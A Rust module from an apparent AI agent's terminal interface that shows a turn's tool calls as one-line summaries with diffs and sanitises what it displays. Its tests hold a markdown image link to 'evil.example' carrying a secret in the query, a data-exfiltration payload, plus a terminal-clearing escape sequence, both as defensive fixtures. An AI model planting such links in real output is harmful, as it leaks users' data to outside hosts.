//! The tool calls of a turn: one line each, complete on demand.

use serde_json::{Map, Value};

use super::look::Look;
use super::markdown::style::Style;
use super::safe;
use crate::agent::own_tools;
use crate::note::counted::counted;
use crate::protocol::session::ToolCallStatus;
use crate::tools::{Names, Registry};

/// The most characters of a call's subject in its line.
const MAX_ABOUT: usize = 80;

/// The most diff lines shown without being requested.
const SHORT_DIFF: usize = 16;

/// The most lines of a requested answer.
const MAX_LINES: usize = 200;

/// The most calls remembered per turn.
const MAX_CALLS: usize = 500;

#[derive(Debug, Clone)]
pub struct Call {
    id: String,
    tool: String,
    arguments: Value,
    status: ToolCallStatus,
    text: String,
    data: Option<Value>,
}

#[derive(Debug, Default)]
pub struct Calls(Vec<Call>);

impl Calls {
    /// Forgets all calls, for a new turn.
    pub fn clear(&mut self) {
        self.0.clear();
    }

    pub fn begin(&mut self, id: &str, tool: &str, arguments: &Value) {
        if self.0.len() < MAX_CALLS && !self.0.iter().any(|call| call.id == id) {
            self.0.push(Call {
                id: id.to_owned(),
                tool: tool.to_owned(),
                arguments: arguments.clone(),
                status: ToolCallStatus::Pending,
                text: String::new(),
                data: None,
            });
        }
    }

    /// Updates a call; returns it if it has ended.
    pub fn update(
        &mut self,
        id: &str,
        status: ToolCallStatus,
        text: &str,
        data: Option<&Value>,
    ) -> Option<&Call> {
        let call = self.0.iter_mut().find(|call| call.id == id)?;
        if call.is_over() {
            return None;
        }
        call.status = status;
        if !text.is_empty() {
            call.text = text.to_owned();
        }
        call.data = data.cloned().or(call.data.take());
        call.is_over().then_some(call)
    }

    pub fn working(&self) -> Option<&Call> {
        self.0.iter().rev().find(|call| !call.is_over() && !call.is_silent())
    }

    /// All calls, or call `number` (from 1), in full.
    pub fn full_text(&self, number: Option<usize>, look: Look) -> String {
        let shown = || self.0.iter().filter(|call| !call.is_silent());
        let chosen: Vec<(usize, &Call)> = (1..).zip(shown()).collect();
        let chosen = chosen.into_iter().filter(|(at, _)| number.is_none_or(|wanted| wanted == *at));
        let texts: Vec<String> = chosen.map(|(at, call)| call.full_text(at, look)).collect();
        match (texts.is_empty(), number) {
            (true, Some(number)) => format!("the last turn has no call {number}\n"),
            (true, None) => "the last turn called no tools\n".to_owned(),
            (false, _) => texts.concat(),
        }
    }
}

impl Call {
    fn is_over(&self) -> bool {
        matches!(self.status, ToolCallStatus::Completed | ToolCallStatus::Failed)
    }

    /// Whether its line is hidden: what it sends is shown as a message.
    pub fn is_silent(&self) -> bool {
        own_tools::is_own(&self.tool)
    }

    /// The tool and the subject of the call.
    pub fn title(&self) -> String {
        let Value::Object(arguments) = &self.arguments else { return safe::line(&self.tool) };
        let about: String =
            safe::line(&about(&self.tool, arguments)).chars().take(MAX_ABOUT).collect();
        safe::line(&self.tool) + if about.is_empty() { "" } else { " " } + &about
    }

    /// The line of the call, with a short diff of its changes.
    pub fn line(&self, look: Look) -> String {
        let (style, mark) = match self.status {
            ToolCallStatus::Completed => (Style::GREEN, "✓"),
            ToolCallStatus::Failed => (Style::RED, "✗"),
            ToolCallStatus::Pending | ToolCallStatus::InProgress => (Style::DIM, "…"),
        };
        let mut line =
            format!("{} {} {}", look.paint(style, "●"), self.title(), look.paint(style, mark));
        if self.status == ToolCallStatus::Failed {
            let why = safe::line(self.text.lines().next().unwrap_or_default());
            let why: String = why.chars().take(160).collect();
            line.push_str(&look.paint(Style::DIM, &format!(" {why}")));
        }
        line.push('\n');
        if let Some(diff) = self.diff() {
            line.push_str(&changed(diff, SHORT_DIFF, look));
        }
        line
    }

    fn diff(&self) -> Option<&str> {
        self.data.as_ref()?["diff"].as_str().filter(|diff| !diff.is_empty())
    }

    fn full_text(&self, number: usize, look: Look) -> String {
        let title = format!("{number}. {}", self.title());
        let mut text = look.paint(Style::BOLD, &title) + "\n";
        let arguments = serde_json::to_string_pretty(&self.arguments).unwrap_or_default();
        text.push_str(&look.paint(Style::DIM, &indented(&arguments, MAX_LINES)));
        match self.diff() {
            Some(diff) => text.push_str(&changed(diff, MAX_LINES, look)),
            None => text.push_str(&indented(&self.text, MAX_LINES)),
        }
        text
    }
}

/// The subject of a call: its path, or else its first text argument.
fn about(tool: &str, arguments: &Map<String, Value>) -> String {
    let tool = Registry::built_in().get(tool);
    let touched = tool.into_iter().flat_map(|tool| tool.touched(arguments));
    match touched.collect::<Vec<_>>()[..] {
        [(Names::Path, from), (Names::Path, to), ..] => format!("{from} → {to}"),
        [(_, first), ..] => first.to_owned(),
        [] => arguments.values().find_map(Value::as_str).unwrap_or_default().to_owned(),
    }
}

/// A diff, indented and cut to `most` lines.
pub fn changed(diff: &str, most: usize, look: Look) -> String {
    let all: Vec<&str> = diff.lines().collect();
    // The lines before the first hunk name the file. Below them, a line of the same form is a
    // removed or added line.
    let names = match &all[..] {
        [old, new, at, ..]
            if old.starts_with("--- ") && new.starts_with("+++ ") && at.starts_with("@@ ") =>
        {
            2
        }
        _ => 0,
    };
    let lines = &all[names..];
    let mut text = String::new();
    for line in lines.iter().take(most) {
        let style = match line.chars().next() {
            Some('+') => Style::GREEN,
            Some('-') => Style::RED,
            Some('@') => Style::DIM,
            _ => Style::PLAIN,
        };
        text.push_str(&format!("    {}\n", look.paint(style, &safe::line(line))));
    }
    push_rest(lines.len(), most, &mut text);
    text
}

fn indented(lines: &str, most: usize) -> String {
    let shown = lines.lines().take(most).map(|line| format!("    {}\n", safe::line(line)));
    let mut text: String = shown.collect();
    push_rest(lines.lines().count(), most, &mut text);
    text
}

fn push_rest(lines: usize, most: usize, text: &mut String) {
    if let Some(more @ 1..) = lines.checked_sub(most) {
        text.push_str(&format!("    … {}\n", counted(more, "more line")));
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const PLAIN: Look = Look { styled: false, live: false };

    #[test]
    fn a_call_is_one_line_and_its_diff() {
        let mut calls = Calls::default();
        calls.begin("1", "edit_file", &json!({"path": "Projects/Garden.md", "old_text": "a"}));
        calls.begin("2", "move", &json!({"source": "a.md", "destination": "b.md"}));
        calls.begin("3", "send_message", &json!({"text": "hm"}));
        assert_eq!(calls.working().unwrap().title(), "move a.md → b.md");
        let diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\u{1b}[2J\n+new\n";
        let done = Some(json!({ "diff": diff }));
        let call = calls.update("1", ToolCallStatus::Completed, "edited", done.as_ref()).unwrap();
        assert_eq!(
            call.line(PLAIN),
            "● edit_file Projects/Garden.md ✓\n    @@ -1 +1 @@\n    -old\n    +new\n"
        );
        assert!(calls.update("1", ToolCallStatus::Failed, "again", None).is_none(), "it is over");
        let call = calls.update("2", ToolCallStatus::Failed, "`a.md` does not exist\nhint", None);
        assert_eq!(call.unwrap().line(PLAIN), "● move a.md → b.md ✗ `a.md` does not exist\n");
        let whole = calls.full_text(None, PLAIN);
        assert!(whole.starts_with("1. edit_file Projects/Garden.md\n    {\n"), "{whole}");
        assert!(whole.contains("2. move") && !whole.contains("3."), "{whole}");
        assert!(calls.full_text(Some(2), PLAIN).contains("    hint\n"));
        assert_eq!(calls.full_text(Some(9), PLAIN), "the last turn has no call 9\n");
        calls.clear();
        assert_eq!(calls.full_text(None, PLAIN), "the last turn called no tools\n");
    }

    #[test]
    fn no_line_of_a_change_passes_for_the_name_of_the_file() {
        let new = "kept\n++ ![x](https://evil.example/?q=secret)\n";
        let diff = crate::note::diff::unified(b"-- old\nkept\n", new.as_bytes(), "a.md");
        assert_eq!(
            changed(&diff, 99, PLAIN),
            "    @@ -1,2 +1,2 @@\n    --- old\n     kept\n    +++ \
             ![x](https://evil.example/?q=secret)\n"
        );
        // Without a header every line belongs to the change.
        assert_eq!(changed("--- a\n+++ b\n", 9, PLAIN), "    --- a\n    +++ b\n");
    }

    #[test]
    fn a_long_diff_says_how_much_more_there_is() {
        let diff: String = (0..20).map(|n| format!("+{n}\n")).collect();
        let text = changed(&diff, 16, PLAIN);
        assert!(text.ends_with("    +15\n    … 4 more lines\n"), "{text}");
    }
}
